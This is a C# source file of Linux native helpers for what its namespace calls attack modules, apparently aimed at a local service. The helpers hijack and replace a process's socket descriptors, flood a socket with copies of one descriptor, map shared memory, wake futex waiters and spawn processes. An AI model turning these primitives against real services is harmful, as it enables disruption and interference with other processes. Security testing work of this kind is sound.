using System.Runtime.InteropServices;

namespace Samgr.Attacks.Modules;

/// <summary>What an attacker asks of the operating system itself: Linux.</summary>
internal static unsafe partial class Native
{
    internal const int KillSignal = 9;

    /// <summary>SCM_MAX_FD: file descriptors that one send carries at most.</summary>
    internal const int MostFiles = 253;

    private const int UnixFamily = 1;
    private const int Stream = 1;
    private const int DuplicateCloseOnExec = 1030;
    private const int FirstCopy = 3;
    private const int NoSignal = 0x4000;
    private const int Peek = 2;
    private const int DontWait = 0x40;
    private const int SocketLevel = 1;
    private const int Rights = 1;
    private const int HeaderBytes = 16;
    private const int ReadWrite = 3;
    private const int Shared = 1;

    /// <summary>Finds the descriptor of a connected socket by the path of its other end.</summary>
    /// <returns>-1 when there is none.</returns>
    internal static int FindSocket(string path)
    {
        byte[] name = new byte[128];
        foreach (string entry in Directory.GetFiles("/proc/self/fd"))
        {
            int descriptor = int.Parse(Path.GetFileName(entry), System.Globalization.CultureInfo.InvariantCulture);
            int size = name.Length;
            if (GetPeerName(descriptor, name, ref size) == 0 && size > 2
                && System.Text.Encoding.UTF8.GetString(name, 2, size - 2).TrimEnd('\0') == path)
            {
                return descriptor;
            }
        }

        return -1;
    }

    /// <summary>Puts an end of a pair of sockets, of which nothing will ever come, in the place of a descriptor.</summary>
    /// <returns>A new descriptor of what was there.</returns>
    internal static int Replace(int descriptor)
    {
        int copy = Control(descriptor, DuplicateCloseOnExec, FirstCopy);
        int* pair = stackalloc int[2];
        return copy >= 0 && SocketPair(UnixFamily, Stream, 0, pair) == 0 && DuplicateTo(pair[0], descriptor) == descriptor ? copy : -1;
    }

    /// <summary>Looks at numbers that wait in a socket, and leaves them there.</summary>
    /// <returns>False when there are not so many.</returns>
    internal static bool TryPeek(int descriptor, Span<int> numbers)
    {
        fixed (int* start = numbers)
        {
            return Receive(descriptor, (byte*)start, (nuint)numbers.Length * sizeof(int), Peek | DontWait) == numbers.Length * sizeof(int);
        }
    }

    /// <summary>Sends bytes, and with the first of them any number of copies of a descriptor.</summary>
    /// <returns>How many bytes went; negative when none did.</returns>
    internal static int Send(int socket, ReadOnlySpan<byte> bytes, int file, int copies)
    {
        byte* control = stackalloc byte[HeaderBytes + (MostFiles * sizeof(int))];
        *(nuint*)control = (nuint)(HeaderBytes + (copies * sizeof(int)));
        *(int*)(control + 8) = SocketLevel;
        *(int*)(control + 12) = Rights;
        new Span<int>(control + HeaderBytes, copies).Fill(file);
        fixed (byte* start = bytes)
        {
            Vector vector = new() { Start = start, Length = (nuint)bytes.Length };
            Header header = new() { Vectors = &vector, VectorCount = 1 };
            if (copies > 0)
            {
                header.Control = control;
                header.ControlLength = (nuint)((HeaderBytes + (copies * sizeof(int)) + 7) & ~7);
            }

            return (int)SendMessage(socket, &header, NoSignal);
        }
    }

    /// <summary>Maps memory that somebody has given.</summary>
    /// <returns>Null when it cannot be mapped.</returns>
    internal static byte* Map(int descriptor, int size)
    {
        nint address = Map(0, (nuint)size, ReadWrite, Shared, descriptor, 0);
        return address == -1 ? null : (byte*)address;
    }

    /// <summary>Wakes whoever sleeps on a word.</summary>
    internal static void Wake(int* word)
        => SystemCall(RuntimeInformation.ProcessArchitecture == Architecture.X64 ? 202 : 98, word, 1, int.MaxValue);

    [LibraryImport("libc", EntryPoint = "kill")]
    internal static partial int Kill(int process, int signal);

    [LibraryImport("libc", EntryPoint = "abort")]
    internal static partial void Abort();

    [LibraryImport("libc", EntryPoint = "_exit")]
    internal static partial void Exit(int code);

    [LibraryImport("libc", EntryPoint = "close")]
    internal static partial int Close(int descriptor);

    [LibraryImport("libc", EntryPoint = "shutdown")]
    internal static partial int Shutdown(int socket, int how);

    [LibraryImport("libc", EntryPoint = "memfd_create", StringMarshalling = StringMarshalling.Utf8)]
    internal static partial int MakeFile(string name, uint flags);

    [LibraryImport("libc", EntryPoint = "execv", StringMarshalling = StringMarshalling.Utf8)]
    internal static partial int Execute(string path, string?[] arguments);

    [LibraryImport("libc", EntryPoint = "write")]
    internal static partial nint Write(int descriptor, byte* bytes, nuint count);

    [LibraryImport("libc", EntryPoint = "setsockopt")]
    internal static partial int SetOption(int socket, int level, int option, int* value, int size);

    [LibraryImport("libc", EntryPoint = "getpeername")]
    private static partial int GetPeerName(int socket, byte[] name, ref int size);

    [LibraryImport("libc", EntryPoint = "fcntl")]
    private static partial int Control(int descriptor, int command, int argument);

    [LibraryImport("libc", EntryPoint = "socketpair")]
    private static partial int SocketPair(int family, int type, int protocol, int* pair);

    [LibraryImport("libc", EntryPoint = "dup2")]
    private static partial int DuplicateTo(int descriptor, int place);

    [LibraryImport("libc", EntryPoint = "recv")]
    private static partial nint Receive(int socket, byte* bytes, nuint count, int flags);

    [LibraryImport("libc", EntryPoint = "sendmsg")]
    private static partial nint SendMessage(int socket, Header* header, int flags);

    [LibraryImport("libc", EntryPoint = "mmap")]
    private static partial nint Map(nint address, nuint length, int protection, int flags, int descriptor, long offset);

    [LibraryImport("libc", EntryPoint = "syscall")]
    private static partial nint SystemCall(nint number, int* word, nint operation, nint count);

    [StructLayout(LayoutKind.Sequential)]
    private struct Vector
    {
        internal byte* Start;
        internal nuint Length;
    }

    [StructLayout(LayoutKind.Sequential)]
    private struct Header
    {
        internal void* Name;
        internal uint NameLength;
        internal Vector* Vectors;
        internal nuint VectorCount;
        internal void* Control;
        internal nuint ControlLength;
        internal int Flags;
    }
}
